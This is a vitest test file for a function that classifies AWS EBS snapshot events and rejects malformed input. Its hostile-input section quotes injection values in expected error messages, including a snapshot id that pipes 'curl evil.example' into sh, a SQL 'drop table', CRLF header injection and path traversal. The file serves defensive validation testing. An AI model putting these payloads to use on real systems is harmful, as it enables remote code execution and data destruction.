import { describe, expect, it } from "vitest";
import { InvalidEventError } from "../../functions/core/errors.js";
import { classifyEvent, EVENT_MAX_BYTES } from "../../functions/core/events.js";
import type { ClassifiedEvent } from "../../functions/core/model.js";
import { eventNames, loadEvent } from "../events/fixtures.js";

const SRC = "snap-0a1b2c3d4e5f60718";
const SRC2 = "snap-0b2c3d4e5f6071829";
const COPY = "snap-09f8e7d6c5b4a3210";
const VOL = "vol-0f1e2d3c4b5a69788";
const VOL2 = "vol-0e1d2c3b4a5968778";
/** The envelope ids of the fixtures (EventBridge event ids). */
const CREATE_ID = "7bf73129-1428-4cd3-a780-95db273d1602";
const COPY_ID = "4c4a8a1e-5ed0-4b8c-9d5e-2f7b0e6d8a11";
const MISSED_ID = "fd90eb95-0938-e02c-cf55-b81363b8ac12";
const MULTI_ID = "c2a0a7f4-0b4d-4c8f-8a52-1f3e9d7b6a20";

type Json = Record<string, unknown>;
const isRecord = (v: unknown): v is Json => typeof v === "object" && v !== null && !Array.isArray(v);

/** A fixture with envelope and detail fields replaced (undefined removes a field). */
function fixture(name: string, patch: Json = {}, detail: Json = {}): Json {
  const base = loadEvent(name);
  if (!isRecord(base) || !isRecord(base.detail)) throw new Error(`${name} is not an event object`);
  return { ...base, ...patch, detail: { ...base.detail, ...detail } };
}

function invalidMessage(input: unknown, opts?: { maxBytes?: number }): string {
  try {
    classifyEvent(input, opts);
  } catch (err) {
    if (err instanceof InvalidEventError) return err.message;
    throw err;
  }
  throw new Error("expected InvalidEventError");
}

/** A copy of an expected event without these fields (toStrictEqual tells absent from undefined). */
function omit(event: ClassifiedEvent, ...keys: string[]): ClassifiedEvent {
  return Object.fromEntries(Object.entries(event).filter(([k]) => !keys.includes(k))) as ClassifiedEvent;
}

const created: ClassifiedEvent = {
  kind: "snapshot-created",
  snapshotId: SRC,
  region: "us-east-1",
  volumeId: VOL,
  startTime: "2021-05-03T19:20:05.000Z",
  endTime: "2021-05-03T19:35:23.000Z",
  eventId: CREATE_ID,
};

const copied: ClassifiedEvent = {
  kind: "snapshot-copied",
  snapshotId: COPY,
  region: "us-west-2",
  sourceSnapshotId: SRC,
  sourceRegion: "us-east-1",
  incremental: true,
  transferType: "standard",
  startTime: "2021-05-03T19:36:02.000Z",
  endTime: "2021-05-03T19:38:41.000Z",
  eventId: COPY_ID,
};

/** Every aws.ec2 fixture and exactly what it classifies to. */
const expected: Record<string, ClassifiedEvent> = {
  "aws.ec2/create-snapshot-succeeded": created,
  "aws.ec2/create-snapshot-region-first-arn": created,
  "aws.ec2/create-snapshot-capitalised": created,
  "aws.ec2/create-snapshot-no-account": created,
  "aws.ec2/create-snapshot-bare-id": created,
  "aws.ec2/create-snapshot-govcloud": { ...created, region: "us-gov-west-1" },
  "aws.ec2/create-snapshot-legacy-time": {
    ...created,
    startTime: "2021-05-05T21:01:12.000Z",
    endTime: "2021-05-05T21:11:43.000Z",
  },
  "aws.ec2/create-snapshot-failed": {
    kind: "snapshot-failed",
    snapshotId: SRC,
    region: "us-east-1",
    volumeId: VOL,
    cause: "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab is disabled.",
    eventId: CREATE_ID,
  },
  "aws.ec2/create-snapshot-failed-odd-cause": {
    kind: "snapshot-failed",
    snapshotId: SRC,
    region: "us-east-1",
    volumeId: VOL,
    cause: "no cause given",
    eventId: CREATE_ID,
    notes: ["detail.cause: an object is not a string; treated as absent"],
  },
  "aws.ec2/create-snapshot-placeholder-time": {
    ...omit(created, "startTime"),
    notes: [
      'detail.startTime: "yyyy-mm-ddThh:mm:ssZ" is not an ISO 8601, legacy or epoch time from 2000 to 2100; treated as absent',
    ],
  },
  "aws.ec2/create-snapshot-odd-volume": {
    ...omit(created, "volumeId"),
    notes: [
      `detail.source: "arn:aws:ec2::us-east-1:snapshot/${SRC}" is an EC2 snapshot ARN, not a volume; treated as absent`,
    ],
  },
  "aws.ec2/copy-snapshot-succeeded": copied,
  "aws.ec2/copy-snapshot-capitalised": { ...copied, eventId: "9d2e6a71-3c0f-4b8e-a5d4-61f0e2b7c934" },
  "aws.ec2/copy-snapshot-odd-times": {
    ...copied,
    incremental: false,
    transferType: "time-based",
    eventId: "2f7c9b10-8e4d-4a63-b1f5-0c9d8e7a6b52",
  },
  "aws.ec2/copy-snapshot-odd-incremental": {
    ...omit(copied, "incremental"),
    notes: ['detail.incremental: "yes" is not true or false; treated as absent'],
  },
  "aws.ec2/copy-snapshot-duplicate-keys": {
    ...omit(copied, "incremental", "transferType"),
    eventId: "6b1a0d3e-5f2c-4e97-8d40-7a3c2b1e0f68",
    notes: [
      'resources: "arn:aws:ec2::us-west-2:snapshot/snap-09f8e7d6c5b4a3210" is not a list of strings; treated as absent',
      'detail.incremental: has both "incremental" and "Incremental"; treated as absent',
      "detail.transferType: an array is not a transfer type; treated as absent",
    ],
  },
  "aws.ec2/copy-snapshot-time-based": { ...copied, incremental: false, transferType: "time-based" },
  "aws.ec2/copy-snapshot-failed": {
    kind: "copy-failed",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    cause: "Given key ID is not accessible",
    eventId: COPY_ID,
  },
  "aws.ec2/copy-missed-completion-duration": {
    kind: "copy-missed-deadline",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    cause:
      "Snapshot copy was not able to meet the specified completion duration because your snapshot copy operation throughput quota was exceeded.",
    startTime: "2024-11-24T22:32:55.000Z",
    eventId: MISSED_ID,
  },
  "aws.ec2/copy-missed-completion-duration-odd": {
    kind: "copy-missed-deadline",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    completionDurationMinutes: 60,
    startTime: "2024-11-24T22:32:55.250Z",
    eventId: MISSED_ID,
    notes: ["detail.missedCompletionDurationCause: 429 is not a string; treated as absent"],
  },
  "aws.ec2/multi-volume-completion": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: true },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
    eventId: MULTI_ID,
  },
  "aws.ec2/multi-volume-odd-fields": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", succeeded: false, cause: "status error" },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
    eventId: MULTI_ID,
    notes: [
      'detail.snapshots[1].source: "arn:aws:ec2::us-east-1:volume/vol-XYZ" has an invalid volume id; treated as absent',
      "detail.snapshots[1].cause: 500 is not a string; treated as absent",
    ],
  },
  "aws.ec2/multi-volume-failed": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: false, cause: "status error" },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
    eventId: MULTI_ID,
  },
  "aws.ec2/create-snapshots-notification": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: false, cause: "status failed" },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
    eventId: MULTI_ID,
  },
  "aws.ec2/share-snapshot": {
    kind: "ignored",
    reason: 'EBS Snapshot Notification event "shareSnapshot" is not one we act on',
    snapshotId: SRC,
    region: "us-east-1",
    eventId: "0e3d1f9a-7c2b-4e5d-8f6a-9b0c1d2e3f40",
  },
  "aws.ec2/volume-notification": {
    kind: "ignored",
    reason: 'detail-type "EBS Volume Notification" is not an EBS snapshot event we act on',
    snapshotId: null,
    region: "us-east-1",
    eventId: "5a1f0c3e-2b4d-4e6f-8a9b-0c1d2e3f4a5b",
  },
};

describe("classifyEvent: real-shaped aws.ec2 events", () => {
  it("has an expectation for every fixture under test/events/aws.ec2", () => {
    // arrange
    const names = eventNames("aws.ec2");
    // act
    const missing = names.filter((n) => !(n in expected));
    // assert
    expect(missing).toEqual([]);
    expect(Object.keys(expected).sort()).toEqual(names);
  });

  it.each(Object.entries(expected))("%s", (name, want) => {
    // arrange
    const event = loadEvent(name);
    // act
    const got = classifyEvent(event);
    // assert: toStrictEqual also proves no undefined-valued fields are left in the output
    expect(got).toStrictEqual(want);
  });
});

describe("classifyEvent: tolerance", () => {
  it("reads both documented snapshot ARN forms and the account form alike", () => {
    // arrange
    const forms = [
      `arn:aws:ec2::us-east-1:snapshot/${SRC}`,
      `arn:aws:ec2:us-east-1::snapshot/${SRC}`,
      `arn:aws:ec2:us-east-1:111122223333:snapshot/${SRC}`,
    ];
    // act
    const got = forms.map((arn) =>
      classifyEvent(fixture("aws.ec2/create-snapshot-succeeded", {}, { snapshot_id: arn })),
    );
    // assert
    for (const g of got) expect(g).toStrictEqual(created);
  });

  it("reads the aws-cn and aws-us-gov partitions", () => {
    // arrange
    const cn = fixture(
      "aws.ec2/create-snapshot-succeeded",
      { region: "cn-north-1" },
      {
        snapshot_id: `arn:aws-cn:ec2::cn-north-1:snapshot/${SRC}`,
        source: `arn:aws-cn:ec2::cn-north-1:volume/${VOL}`,
      },
    );
    // act
    const got = [classifyEvent(cn), classifyEvent(loadEvent("aws.ec2/create-snapshot-govcloud"))];
    // assert
    expect(got.map((g) => g.region)).toEqual(["cn-north-1", "us-gov-west-1"]);
  });

  it("takes a bare id's region from the event, and an ARN's region over the event's", () => {
    // arrange
    const bare = fixture("aws.ec2/create-snapshot-bare-id", { region: "eu-west-1" });
    const arn = fixture("aws.ec2/create-snapshot-succeeded", { region: "eu-west-1" });
    // act
    const got = [classifyEvent(bare), classifyEvent(arn)];
    // assert
    expect(got.map((g) => [g.snapshotId, g.region])).toEqual([
      [SRC, "eu-west-1"],
      [SRC, "us-east-1"],
    ]);
  });

  it("matches keys ignoring case, underscores and dashes (snapshot_id, snapshotId, SNAPSHOT-ID)", () => {
    // arrange
    const base = fixture("aws.ec2/create-snapshot-succeeded", {}, { snapshot_id: undefined });
    const spellings = ["snapshotId", "SnapshotId", "Snapshot_id", "SNAPSHOT-ID"];
    // act
    const got = spellings.map((key) =>
      classifyEvent({ ...base, detail: { ...(isRecord(base.detail) ? base.detail : {}), [key]: SRC } }),
    );
    // assert
    for (const g of got) expect(g).toStrictEqual(created);
  });

  it("normalises ISO 8601 (with fractions or offsets) and the legacy UTC form to toISOString()", () => {
    // arrange
    const times = {
      "2021-05-03T21:35:23+02:00": "2021-05-03T19:35:23.000Z",
      "2024-11-16T06:27:33.816Z": "2024-11-16T06:27:33.816Z",
      "Wed May 05 21:11:43 UTC 2021": "2021-05-05T21:11:43.000Z",
      "Sun Nov 24 22:32:55 UTC 2024": "2024-11-24T22:32:55.000Z",
    };
    // act
    const got = Object.keys(times).map((t) => {
      const c = classifyEvent(fixture("aws.ec2/create-snapshot-succeeded", {}, { endTime: t }));
      return c.kind === "snapshot-created" ? c.endTime : c.kind;
    });
    // assert
    expect(got).toEqual(Object.values(times));
  });

  it("accepts an event without account (the emulator drops it), but not a malformed one", () => {
    // arrange
    const event = loadEvent("aws.ec2/create-snapshot-no-account");
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toStrictEqual(created);
    expect(invalidMessage(fixture("aws.ec2/create-snapshot-succeeded", { account: "12345" }))).toBe(
      'account is not a 12-digit account id: "12345"',
    );
  });

  it("reads completionDurationMinutes on a missed-deadline event when present", () => {
    // arrange
    const event = fixture("aws.ec2/copy-missed-completion-duration", {}, { completionDurationMinutes: 15 });
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toMatchObject({ kind: "copy-missed-deadline", completionDurationMinutes: 15 });
  });
});

/** A genuine event with informational fields varied: what it classifies to, and its notes. */
interface Variant {
  base: string;
  envelope?: Json;
  detail?: Json;
  /** Fields the classified event has (a subset), kind included. */
  want: Json;
  /** Fields the classified event must not have. */
  absent?: string[];
  notes?: string[];
}

const COPY_OK = "aws.ec2/copy-snapshot-succeeded";
const COPY_FAILED = "aws.ec2/copy-snapshot-failed";
const CREATE_OK = "aws.ec2/create-snapshot-succeeded";
const MISSED = "aws.ec2/copy-missed-completion-duration";
const START = "2021-05-03T19:36:02.000Z";
const START_S = 1620070562;
const odd = (path: string, shown: string, why: string) => `${path}: ${shown} ${why}; treated as absent`;
const NOT_FLAG = "is not true or false";
const NOT_TIME = "is not an ISO 8601, legacy or epoch time from 2000 to 2100";
const copiedKind = { kind: "snapshot-copied", snapshotId: COPY, sourceSnapshotId: SRC };

const variants: Record<string, Variant> = {
  // both documented ARN forms, either field
  "snapshot_id region-in-account-field ARN": {
    base: COPY_OK,
    detail: { snapshot_id: `arn:aws:ec2::us-west-2:snapshot/${COPY}` },
    want: { ...copiedKind, region: "us-west-2" },
  },
  "snapshot_id region-first ARN": {
    base: COPY_OK,
    detail: { snapshot_id: `arn:aws:ec2:us-west-2::snapshot/${COPY}` },
    want: { ...copiedKind, region: "us-west-2" },
  },
  "source region-first ARN": {
    base: COPY_OK,
    detail: { source: `arn:aws:ec2:us-east-1::snapshot/${SRC}` },
    want: { ...copiedKind, sourceRegion: "us-east-1" },
  },
  // capitalised and re-spelled keys
  Snapshot_ID: {
    base: COPY_OK,
    detail: { snapshot_id: undefined, Snapshot_ID: `arn:aws:ec2::us-west-2:snapshot/${COPY}` },
    want: copiedKind,
  },
  "Incremental: True": {
    base: COPY_OK,
    detail: { incremental: undefined, Incremental: "True" },
    want: { ...copiedKind, incremental: true },
  },
  "StartTime and END_TIME": {
    base: COPY_OK,
    detail: { startTime: undefined, endTime: undefined, StartTime: START, END_TIME: START },
    want: { ...copiedKind, startTime: START, endTime: START },
  },
  "TRANSFER_TYPE: Time-Based": {
    base: COPY_OK,
    detail: { transferType: undefined, TRANSFER_TYPE: "Time-Based" },
    want: { ...copiedKind, transferType: "time-based" },
  },
  // incremental in every spelling of its value
  'incremental "True"': { base: COPY_OK, detail: { incremental: "True" }, want: { incremental: true } },
  'incremental "FALSE"': { base: COPY_OK, detail: { incremental: "FALSE" }, want: { incremental: false } },
  'incremental "TRUE "': { base: COPY_OK, detail: { incremental: "TRUE " }, want: { incremental: true } },
  "incremental true": { base: COPY_OK, detail: { incremental: true }, want: { incremental: true } },
  "incremental false": { base: COPY_OK, detail: { incremental: false }, want: { incremental: false } },
  "incremental missing": {
    base: COPY_OK,
    detail: { incremental: undefined },
    want: copiedKind,
    absent: ["incremental"],
  },
  'incremental ""': { base: COPY_OK, detail: { incremental: "" }, want: copiedKind, absent: ["incremental"] },
  'incremental "yes"': {
    base: COPY_OK,
    detail: { incremental: "yes" },
    want: copiedKind,
    absent: ["incremental"],
    notes: [odd("detail.incremental", '"yes"', NOT_FLAG)],
  },
  "incremental 42": {
    base: COPY_OK,
    detail: { incremental: 42 },
    want: copiedKind,
    absent: ["incremental"],
    notes: [odd("detail.incremental", "42", NOT_FLAG)],
  },
  "incremental [true]": {
    base: COPY_OK,
    detail: { incremental: [true] },
    want: copiedKind,
    absent: ["incremental"],
    notes: [odd("detail.incremental", "an array", NOT_FLAG)],
  },
  // transferType
  'transferType "Standard"': {
    base: COPY_OK,
    detail: { transferType: "Standard" },
    want: { transferType: "standard" },
  },
  'transferType "TIME_BASED"': {
    base: COPY_OK,
    detail: { transferType: "TIME_BASED" },
    want: { transferType: "time-based" },
  },
  "transferType 7": {
    base: COPY_OK,
    detail: { transferType: 7 },
    want: copiedKind,
    absent: ["transferType"],
    notes: [odd("detail.transferType", "7", "is not a transfer type")],
  },
  // times
  "ISO with nanoseconds": {
    base: COPY_OK,
    detail: { startTime: "2021-05-03T19:36:02.123456789Z" },
    want: { startTime: "2021-05-03T19:36:02.123Z" },
  },
  "ISO with an offset": {
    base: COPY_OK,
    detail: { startTime: "2021-05-03T21:36:02+02:00" },
    want: { startTime: START },
  },
  "ISO with a compact offset": {
    base: COPY_OK,
    detail: { startTime: "2021-05-03T19:36:02.000+0000" },
    want: { startTime: START },
  },
  "ISO without seconds": {
    base: COPY_OK,
    detail: { startTime: "2021-05-03T19:36Z" },
    want: { startTime: "2021-05-03T19:36:00.000Z" },
  },
  '"2021-05-03 19:36:02 UTC"': {
    base: COPY_OK,
    detail: { startTime: "2021-05-03 19:36:02 UTC" },
    want: { startTime: START },
  },
  "legacy UTC form": {
    base: COPY_OK,
    detail: { startTime: "Mon May 03 19:36:02 UTC 2021" },
    want: { startTime: START },
  },
  "epoch seconds": { base: COPY_OK, detail: { startTime: START_S }, want: { startTime: START } },
  "epoch seconds as a string": {
    base: COPY_OK,
    detail: { startTime: String(START_S) },
    want: { startTime: START },
  },
  "epoch milliseconds": {
    base: COPY_OK,
    detail: { startTime: START_S * 1000 + 250 },
    want: { startTime: "2021-05-03T19:36:02.250Z" },
  },
  "epoch milliseconds as a string": {
    base: COPY_OK,
    detail: { startTime: `${START_S * 1000}` },
    want: { startTime: START },
  },
  "a time without a zone": {
    base: COPY_OK,
    detail: { startTime: "2021-05-03T19:36:02" },
    want: copiedKind,
    absent: ["startTime"],
    notes: [odd("detail.startTime", '"2021-05-03T19:36:02"', NOT_TIME)],
  },
  "February 30th": {
    base: COPY_OK,
    detail: { endTime: "2021-02-30T19:36:02Z" },
    want: copiedKind,
    absent: ["endTime"],
    notes: [odd("detail.endTime", '"2021-02-30T19:36:02Z"', NOT_TIME)],
  },
  "epoch zero": {
    base: COPY_OK,
    detail: { endTime: 0 },
    want: copiedKind,
    absent: ["endTime"],
    notes: [odd("detail.endTime", "0", NOT_TIME)],
  },
  "a boolean time": {
    base: CREATE_OK,
    detail: { startTime: true },
    want: { kind: "snapshot-created", snapshotId: SRC },
    absent: ["startTime"],
    notes: [odd("detail.startTime", "true", NOT_TIME)],
  },
  // causes
  "a number cause": {
    base: COPY_FAILED,
    detail: { cause: 42 },
    want: { kind: "copy-failed", cause: "no cause given" },
    notes: [odd("detail.cause", "42", "is not a string")],
  },
  "an array cause": {
    base: COPY_FAILED,
    detail: { cause: ["Given key ID is not accessible"] },
    want: { kind: "copy-failed", cause: "no cause given" },
    notes: [odd("detail.cause", "an array", "is not a string")],
  },
  "a blank cause": {
    base: COPY_FAILED,
    detail: { cause: "   " },
    want: { kind: "copy-failed", cause: "no cause given" },
  },
  "a cause with line breaks and escapes (kept on one line)": {
    base: COPY_FAILED,
    detail: { cause: "key\nnot\r\u001b[31maccessible\u2028" },
    want: { kind: "copy-failed", cause: "key not  [31maccessible " },
  },
  "a 5,000-character cause (cut: it is stored in the ledger and printed)": {
    base: COPY_FAILED,
    detail: { cause: "x".repeat(5000) },
    want: { kind: "copy-failed", cause: `${"x".repeat(1000)}... (5000 characters)` },
  },
  "a missed-completion cause object": {
    base: MISSED,
    detail: { missedCompletionDurationCause: { code: "ThroughputExceeded" } },
    want: { kind: "copy-missed-deadline", snapshotId: COPY },
    absent: ["cause"],
    notes: [odd("detail.missedCompletionDurationCause", "an object", "is not a string")],
  },
  // completion duration
  'completionDurationMinutes "60"': {
    base: MISSED,
    detail: { completionDurationMinutes: "60" },
    want: { completionDurationMinutes: 60 },
  },
  "completionDurationMinutes 10": {
    base: MISSED,
    detail: { completionDurationMinutes: 10 },
    want: { kind: "copy-missed-deadline" },
    absent: ["completionDurationMinutes"],
    notes: [
      odd("detail.completionDurationMinutes", "10", "is not a whole number of minutes from 15 to 2880"),
    ],
  },
  // the createSnapshot volume
  "a snapshot ARN as the volume": {
    base: CREATE_OK,
    detail: { source: `arn:aws:ec2::us-east-1:snapshot/${SRC}` },
    want: { kind: "snapshot-created", snapshotId: SRC },
    absent: ["volumeId"],
    notes: [
      odd(
        "detail.source",
        `"arn:aws:ec2::us-east-1:snapshot/${SRC}"`,
        "is an EC2 snapshot ARN, not a volume",
      ),
    ],
  },
  // unknown fields, request ids, resources
  "fields AWS may add, request ids in both spellings": {
    base: COPY_OK,
    detail: {
      "request-id": 7,
      requestId: "01234567-0123-0123-0123-0123456789ab",
      completionDurationStartTime: "2021-05-03T19:36:02.816Z",
      snapshotCopyDetails: { throughputMiBps: [125] },
    },
    envelope: { "replay-name": "r1", time: 42 },
    want: { ...copied },
  },
  "resources not a list": {
    base: COPY_OK,
    envelope: { resources: { arn: "x" } },
    want: copiedKind,
    notes: [odd("resources", "an object", "is not a list of strings")],
  },
  // duplicate spellings of informational keys
  "incremental and INCREMENTAL": {
    base: COPY_OK,
    detail: { incremental: "true", INCREMENTAL: "true" },
    want: copiedKind,
    absent: ["incremental"],
    notes: ['detail.incremental: has both "incremental" and "INCREMENTAL"; treated as absent'],
  },
  "startTime and start_time": {
    base: COPY_OK,
    detail: { start_time: START },
    want: copiedKind,
    absent: ["startTime"],
    notes: ['detail.startTime: has both "startTime" and "start_time"; treated as absent'],
  },
  // the event id
  "no id": { base: COPY_OK, envelope: { id: undefined }, want: copiedKind, absent: ["eventId"] },
  "a number id": {
    base: COPY_OK,
    envelope: { id: 42 },
    want: copiedKind,
    absent: ["eventId"],
    notes: [odd("id", "42", "is not an event id")],
  },
  "id and Id": {
    base: COPY_OK,
    envelope: { Id: "another" },
    want: copiedKind,
    absent: ["eventId"],
    notes: ['id: has both "id" and "Id"; treated as absent'],
  },
};

describe("classifyEvent: informational fields never make a genuine event invalid", () => {
  it.each(Object.entries(variants))("%s", (_name, v) => {
    // arrange
    const event = fixture(v.base, v.envelope, v.detail);
    // act
    const got: Json = { ...classifyEvent(event) };
    // assert
    expect(got).toMatchObject(v.want);
    for (const field of v.absent ?? []) expect(got).not.toHaveProperty(field);
    if (v.notes) expect(got.notes).toEqual(v.notes);
    else expect(got).not.toHaveProperty("notes");
  });

  it("notes every odd field once, in one event", () => {
    // arrange
    const event = fixture(
      COPY_OK,
      { id: ["x"] },
      { incremental: "maybe", transferType: "", startTime: "soon", endTime: "later", cause: 1 },
    );
    // act
    const got = classifyEvent(event);
    // assert
    expect(got.kind).toBe("snapshot-copied");
    expect(got.notes).toEqual([
      odd("id", "an array", "is not an event id"),
      odd("detail.cause", "1", "is not a string"),
      odd("detail.startTime", '"soon"', NOT_TIME),
      odd("detail.endTime", '"later"', NOT_TIME),
      odd("detail.incremental", '"maybe"', NOT_FLAG),
    ]);
  });

  it("quotes odd values short and printable", () => {
    // arrange
    const event = fixture(COPY_OK, {}, { incremental: `yes${"\u2028\r\n".repeat(100)}` });
    // act
    const [note = ""] = classifyEvent(event).notes ?? [];
    // assert
    expect(note).toMatch(
      /^detail\.incremental: "yes(\\u2028\\u000d\\u000a)+[^"]*\.\.\." is not true or false; treated as absent$/,
    );
    expect(note.length).toBeLessThan(600);
  });

  it("keeps at most 20 notes and counts the rest", () => {
    // arrange: 30 failed snapshots, each with a cause that is not a string
    const base = fixture("aws.ec2/multi-volume-failed");
    const detail = isRecord(base.detail) ? base.detail : {};
    const snapshots = Array.from({ length: 30 }, (_, i) => ({
      snapshot_id: `snap-${(0x10000000 + i).toString(16)}`,
      status: "error",
      cause: i,
    }));
    // act
    const got = classifyEvent({ ...base, detail: { ...detail, snapshots } });
    // assert
    expect(got.kind === "multi-volume" ? got.snapshots : []).toHaveLength(30);
    expect(got.notes).toHaveLength(21);
    expect(got.notes?.[20]).toBe("and 10 more notes");
  });

  it("still refuses a malformed identifying field next to odd informational ones", () => {
    // arrange
    const event = fixture(COPY_OK, {}, { incremental: "yes", result: "succeded" });
    // act
    const message = invalidMessage(event);
    // assert
    expect(message).toBe('detail.result must be "succeeded" or "failed", got "succeded"');
  });

  it("keeps a duplicate identifying key invalid", () => {
    // arrange
    const event = fixture(COPY_OK, {}, { Source: `arn:aws:ec2::us-east-1:snapshot/${SRC2}` });
    // act
    const message = invalidMessage(event);
    // assert
    expect(message).toBe('detail has both "source" and "Source"');
  });
});

/** What an event comes to: the InvalidEventError message, the ignored reason, or the kind. */
function outcome(input: unknown): { invalid: string } | { ignored: string } | { kind: string } {
  try {
    const c = classifyEvent(input);
    return c.kind === "ignored" ? { ignored: c.reason } : { kind: c.kind };
  } catch (err) {
    if (err instanceof InvalidEventError) return { invalid: err.message };
    throw err;
  }
}

/** Every hostile fixture and exactly what it must produce: an InvalidEventError message, or an ignored reason. */
const hostile: Record<string, { invalid: string } | { ignored: string }> = {
  "hostile/null": { invalid: "event must be an object, got null" },
  "hostile/array": { invalid: "event must be an object, got array" },
  "hostile/string": { invalid: "event must be an object, got string" },
  "hostile/number": { invalid: "event must be an object, got number" },
  "hostile/missing-detail": { invalid: "detail is required" },
  "hostile/missing-region": { invalid: "region is required" },
  "hostile/detail-not-object": { invalid: "detail must be an object, got string" },
  "hostile/detail-type-number": { invalid: "detail-type must be a string, got number" },
  "hostile/missing-snapshot-id": { invalid: "detail.snapshot_id is required" },
  "hostile/snapshot-id-number": { invalid: "detail.snapshot_id must be a string, got number" },
  "hostile/event-name-object": { invalid: "detail.event must be a string, got object" },
  "hostile/unknown-region": { invalid: 'region is not an AWS region: "moon-base-1"' },
  "hostile/region-header-injection": {
    invalid: 'region is not an AWS region: "us-east-1\\u000d\\u000aX-Injected: 1"',
  },
  "hostile/bad-account": { invalid: 'account is not a 12-digit account id: "1111-2222-3333"' },
  "hostile/s3-arn": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "arn:aws:s3:::velero-backups/backups/daily/${SRC}"`,
  },
  "hostile/iam-arn-source": {
    invalid:
      'detail.source is not an EC2 snapshot ARN or id: "arn:aws:iam::111122223333:role/OrganizationAccountAccessRole"',
  },
  "hostile/volume-arn-as-snapshot": {
    invalid: `detail.snapshot_id is an EC2 volume ARN, not a snapshot: "arn:aws:ec2::us-east-1:volume/${VOL}"`,
  },
  "hostile/foreign-partition": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "arn:evil:ec2::us-east-1:snapshot/${SRC}"`,
  },
  "hostile/arn-two-regions": {
    invalid: `detail.snapshot_id names no valid region: "arn:aws:ec2:us-east-1:us-west-2:snapshot/${SRC}"`,
  },
  "hostile/id-shell-injection": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "snap-0a1b2c3d$(curl\${IFS}evil.example|sh)"`,
  },
  "hostile/id-uppercase-hex": {
    invalid:
      'detail.snapshot_id has an invalid snapshot id: "arn:aws:ec2::us-east-1:snapshot/snap-0A1B2C3D4E5F60718"',
  },
  "hostile/id-path-traversal": {
    invalid: `detail.snapshot_id has an invalid snapshot id: "arn:aws:ec2::us-east-1:snapshot/../../${SRC}"`,
  },
  "hostile/bad-result": {
    invalid: `detail.result must be "succeeded" or "failed", got "succeeded'; drop table ledger; --"`,
  },
  "hostile/copy-bare-source": {
    invalid: `detail.source must be a snapshot ARN naming its region, not a bare id: "${SRC}"`,
  },
  "hostile/conflicting-keys": { invalid: 'detail has both "snapshot_id" and "SnapshotId"' },
  "hostile/proto-pollution": { invalid: "detail.snapshot_id is required" },
  "hostile/multi-volume-empty": { invalid: "detail.snapshots must name at least one snapshot" },
  "hostile/multi-volume-no-status": { invalid: "detail.snapshots[0].status is required" },
  "hostile/multi-volume-bad-status": {
    invalid: 'detail.snapshots[1].status must be "completed", "succeeded", "error" or "failed", got "done"',
  },
  "hostile/missing-result": { invalid: "detail.result is required" },
  "hostile/duplicate-result": { invalid: 'detail has both "result" and "Result"' },
  "hostile/duplicate-region": { invalid: 'event has both "region" and "Region"' },
  "hostile/copy-missing-source": { invalid: "detail.source is required" },
  "hostile/copy-source-number": { invalid: "detail.source must be a string, got number" },
  "hostile/missed-deadline-volume-source": {
    invalid: `detail.source is an EC2 volume ARN, not a snapshot: "arn:aws:ec2:us-east-1:111122223333:volume/${VOL}"`,
  },
  "hostile/wrong-source": { ignored: 'source "custom.velero" is not aws.ec2' },
  "hostile/share-snapshot-foreign-account": {
    ignored: 'EBS Snapshot Notification event "shareSnapshot" is not one we act on',
  },
  "hostile/delete-snapshot-event": {
    ignored: 'EBS Snapshot Notification event "deleteSnapshot" is not one we act on',
  },
};

describe("classifyEvent: hostile and malformed events", () => {
  it("has an expectation for every fixture under test/events/hostile (at least 14)", () => {
    // arrange
    const names = eventNames("hostile");
    // act
    const keys = Object.keys(hostile).sort();
    // assert
    expect(keys).toEqual(names);
    expect(names.length).toBeGreaterThanOrEqual(14);
  });

  it.each(Object.entries(hostile))("%s", (name, want) => {
    // arrange
    const event = loadEvent(name);
    // act
    const got = outcome(event);
    // assert
    expect(got).toEqual(want);
    expect(Object.values(got)[0]).not.toMatch(/[\r\n\u2028\u2029]/);
  });

  it("does not pollute Object.prototype", () => {
    // arrange
    const event = loadEvent("hostile/proto-pollution");
    // act
    invalidMessage(event);
    // assert
    expect("polluted" in {}).toBe(false);
  });

  it("rejects a payload over EventBridge's 256 KiB, and over a custom limit", () => {
    // arrange
    const huge = fixture("aws.ec2/create-snapshot-failed", {}, { cause: "x".repeat(EVENT_MAX_BYTES) });
    const small = loadEvent("aws.ec2/create-snapshot-succeeded");
    // act
    const messages = [invalidMessage(huge), invalidMessage(small, { maxBytes: 100 })];
    // assert
    expect(messages[0]).toMatch(/^event is \d+ bytes, over the 262144-byte limit$/);
    expect(messages[1]).toMatch(/^event is \d+ bytes, over the 100-byte limit$/);
  });

  it("rejects what cannot be serialised (a cycle, a bigint)", () => {
    // arrange
